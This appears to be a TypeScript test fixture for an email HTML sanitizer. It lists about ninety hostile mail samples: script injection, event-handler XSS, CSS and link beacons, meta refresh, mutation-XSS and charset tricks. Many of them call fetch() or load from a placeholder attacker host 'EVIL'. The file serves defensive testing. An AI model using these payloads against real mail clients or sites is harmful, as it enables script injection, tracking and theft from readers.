/** Mails whose HTML tries to run something, to load something or to lead away, when it is merely looked at. `EVIL` stands
 *  for a computer of the sender; that it hears anything at all is the harm. */
export type HostileMail = {
  readonly name: string
  readonly html: string
  /** Of the part, when it is part of the trick. */
  readonly charset?: string
  /** In today's browsers it does no harm even when nothing holds it back; it may in another. */
  readonly tame?: true
}

const steal = (name: string) => `fetch('EVIL/${name}')`

export const hostileMails: readonly HostileMail[] = [
  { name: 'script', html: `<script>${steal('script')}</script>` },
  { name: 'script-elsewhere', html: '<script src="EVIL/script.js"></script>' },
  { name: 'script-module', html: `<script type="module">${steal('module')}</script>` },
  { name: 'script-after-end', html: `</body></html></iframe><script>${steal('after-end')}</script>` },
  { name: 'script-mixed-case', html: `<ScRiPt>${steal('mixed-case')}</sCrIpT>` },
  { name: 'script-doubled', html: `<<script>${steal('doubled')}//<</script>` },
  { name: 'script-in-title', html: `<title></title><script>${steal('title')}</script>` },
  { name: 'picture-error', html: `<img src="data:," onerror="${steal('picture-error')}">` },
  { name: 'picture-error-unquoted', html: '<img src=data:, onerror=fetch(`EVIL/unquoted`)>' },
  { name: 'picture-error-slashes', html: '<img/src="data:,"/onerror=fetch(`EVIL/slashes`)>' },
  { name: 'body-load', html: `<body onload="${steal('body-load')}">text</body>` },
  { name: 'page-show', html: `<body onpageshow="${steal('page-show')}">text</body>` },
  { name: 'focus', html: `<input autofocus onfocus="${steal('focus')}">` },
  { name: 'focus-anything', html: `<p tabindex="0" autofocus onfocus="${steal('focus-anything')}">text</p>` },
  { name: 'toggle', html: `<details open ontoggle="${steal('toggle')}"><summary>s</summary></details>` },
  { name: 'marquee', html: `<marquee onstart="${steal('marquee')}">text</marquee>`, tame: true },
  {
    name: 'animation',
    html: `<style>@keyframes k{from{left:0}}</style><p style="animation:k 1ms" onanimationstart="${steal('animation')}">text</p>`,
  },
  { name: 'media-error', html: `<video><source src="data:," onerror="${steal('media-error')}"></video>` },
  { name: 'svg-load', html: `<svg onload="${steal('svg-load')}"></svg>` },
  { name: 'svg-script', html: `<svg><script>${steal('svg-script')}</script></svg>` },
  { name: 'svg-script-entities', html: `<svg><script>&#102;etch('EVIL/entities')</script></svg>` },
  { name: 'svg-picture', html: '<svg><image href="EVIL/svg-picture" width="9" height="9"/></svg>' },
  { name: 'svg-picture-xlink', html: '<svg><image xlink:href="EVIL/xlink" width="9" height="9"/></svg>' },
  {
    name: 'svg-animate',
    html: `<svg><animate onbegin="${steal('animate')}" attributeName="x" dur="1s"/></svg>`,
  },
  {
    name: 'svg-set-href',
    html: '<svg width="9" height="9"><image width="9" height="9"><set attributeName="href" to="EVIL/set"/></image></svg>',
  },
  {
    name: 'svg-foreign',
    html: `<svg><foreignObject><img src="data:," onerror="${steal('foreign')}"></foreignObject></svg>`,
  },
  { name: 'style-attribute', html: '<p style="background:url(EVIL/style-attribute)">text</p>' },
  { name: 'style-attribute-quoted', html: `<p style="background-image:url('EVIL/quoted')">text</p>` },
  { name: 'style-attribute-escaped', html: '<p style="background:\\75\\72\\6c(EVIL/escaped)">text</p>' },
  { name: 'style-attribute-comment', html: '<p style="background:/**/url(EVIL/comment)/**/">text</p>' },
  { name: 'style-image-set', html: '<p style="background:image-set(\'EVIL/image-set\' 1x)">text</p>' },
  { name: 'style-list', html: '<ul style="list-style-image:url(EVIL/list)"><li>text</li></ul>' },
  { name: 'style-border', html: '<p style="border:9px solid;border-image:url(EVIL/border) 9">text</p>' },
  { name: 'style-mask', html: '<p style="mask-image:url(EVIL/mask)">text</p>' },
  { name: 'style-variable', html: '<p style="--x:url(EVIL/variable);background:var(--x)">text</p>' },
  { name: 'sheet', html: '<style>p{background:url(EVIL/sheet)}</style><p>text</p>' },
  { name: 'sheet-in-head', html: '<head><style>p{background:url("EVIL/head")}</style></head><p>text</p>' },
  { name: 'sheet-content', html: '<style>p::before{content:url(EVIL/content)}</style><p>text</p>' },
  { name: 'sheet-import', html: '<style>@import url(EVIL/import.css);</style>' },
  { name: 'sheet-import-escaped', html: '<style>@\\69mport "EVIL/import-escaped.css";</style>' },
  { name: 'sheet-import-layer', html: '<style>@import "EVIL/layer.css" layer(a);p{color:red}</style>' },
  {
    name: 'sheet-font',
    html: '<style>@font-face{font-family:f;src:url(EVIL/font)}p{font-family:f}</style><p>text</p>',
  },
  {
    name: 'sheet-font-nested',
    html: '<style>@media all{@font-face{font-family:g;src:url(EVIL/font-nested)}}p{font-family:g}</style><p>text</p>',
  },
  {
    name: 'sheet-nested',
    html: '<style>@media all{@supports (color:red){p{& b{background:url(EVIL/nested)}}}}</style><p><b>text</b></p>',
  },
  {
    name: 'sheet-end-in-text',
    html: '<style>p{content:"</style><img src=EVIL/sheet-end>"}</style>',
  },
  { name: 'sheet-linked', html: '<link rel="stylesheet" href="EVIL/linked.css">' },
  {
    name: 'sheet-linked-data',
    html: '<link rel="stylesheet" href="data:text/css,@import url(EVIL/linked-data.css)">',
  },
  { name: 'link-preload', html: '<link rel="preload" as="image" href="EVIL/preload">' },
  { name: 'link-prefetch', html: '<link rel="prefetch" href="EVIL/prefetch">' },
  { name: 'link-module-preload', html: '<link rel="modulepreload" href="EVIL/modulepreload.js">' },
  { name: 'link-icon', html: '<link rel="icon" href="EVIL/icon">', tame: true },
  {
    name: 'link-dns',
    html: '<link rel="dns-prefetch" href="EVIL/"><link rel="preconnect" href="EVIL/">',
    tame: true,
  },
  { name: 'meta-refresh', html: '<meta http-equiv="refresh" content="0;url=EVIL/refresh">' },
  {
    name: 'meta-policy',
    html: `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="EVIL/policy">`,
  },
  { name: 'base', html: '<base href="EVIL/base/"><img src="picture.png">' },
  {
    name: 'form',
    html: `<form action="EVIL/form"><button autofocus onfocus="this.form.submit()">b</button></form>`,
  },
  { name: 'frame', html: '<iframe src="EVIL/frame"></iframe>' },
  { name: 'frame-text', html: `<iframe srcdoc="<script>${steal('frame-text')}</script>"></iframe>` },
  { name: 'frame-script', html: `<iframe src="javascript:${steal('frame-script')}"></iframe>` },
  { name: 'frameset', html: '<frameset><frame src="EVIL/frameset"></frameset>' },
  { name: 'object', html: '<object data="EVIL/object"></object>' },
  { name: 'embed', html: '<embed src="EVIL/embed">' },
  { name: 'video-poster', html: '<video poster="EVIL/poster"></video>' },
  { name: 'video', html: '<video src="EVIL/video" preload="auto"></video>' },
  { name: 'audio', html: '<audio src="EVIL/audio" preload="auto"></audio>' },
  { name: 'picture-elsewhere', html: '<img src="EVIL/picture.png">' },
  { name: 'picture-no-scheme', html: '<img src="HOST/no-scheme.png">' },
  { name: 'picture-backslashes', html: '<img src="http:\\\\BARE/backslashes.png">' },
  { name: 'picture-line-break', html: '<img src="ht&#10;tp://BARE/line-break.png">' },
  { name: 'picture-set', html: '<img srcset="EVIL/srcset.png 1x">' },
  { name: 'picture-source', html: '<picture><source srcset="EVIL/source.png"><img></picture>' },
  { name: 'picture-lazy', html: '<img loading="lazy" src="EVIL/lazy.png">' },
  { name: 'table-background', html: '<table background="EVIL/table"><tr><td>text</td></tr></table>' },
  { name: 'body-background', html: '<body background="EVIL/body-background">text</body>' },
  { name: 'input-picture', html: '<input type="image" src="EVIL/input.png">' },
  { name: 'link-script', html: `<a href="javascript:${steal('link-script')}">press</a>` },
  { name: 'link-script-hidden', html: `<a href=" jav&#x09;ascript:${steal('link-hidden')}">press</a>` },
  { name: 'link-elsewhere', html: '<a href="EVIL/link" ping="EVIL/ping">press</a>' },
  { name: 'link-target', html: '<a href="EVIL/link-target" target="_top">press</a>' },
  {
    name: 'area',
    html: '<map name="m"><area shape="default" href="EVIL/area"></map><a href="EVIL/by">press</a>',
  },
  {
    name: 'template-shadow',
    html: '<div><template shadowrootmode="open"><img src="EVIL/shadow.png"></template></div>',
    // Only a parser that was asked to makes a shadow tree of it.
    tame: true,
  },
  {
    name: 'mutation-math',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=${steal('math')}&gt;">`,
    tame: true,
  },
  {
    name: 'mutation-noscript',
    html: `<noscript><p title="</noscript><img src=data:, onerror=${steal('noscript')}>"></noscript>`,
  },
  {
    name: 'mutation-comment',
    html: `<!--><img src=data:, onerror=${steal('comment')}>-->`,
  },
  {
    name: 'mutation-namespace',
    html: `<svg></p><style><a id="</style><img src=data:, onerror=${steal('namespace')}>">`,
    tame: true,
  },
  { name: 'policy-end', html: `"><script>${steal('policy-end')}</script><p title="` },
  {
    name: 'charset-utf7',
    charset: 'utf-7',
    html: `+ADw-script+AD4-${steal('utf7')}+ADw-/script+AD4-`,
    tame: true,
  },
  {
    name: 'charset-utf16',
    charset: 'utf-16',
    html: `<script>${steal('utf16')}</script>`,
    tame: true,
  },
  {
    name: 'charset-declared',
    html: `<meta charset="utf-7">+ADw-img src=EVIL/declared+AD4-`,
    tame: true,
  },
  { name: 'nul-in-name', html: `<scr\u0000ipt>${steal('nul')}</scr\u0000ipt>`, tame: true },
]
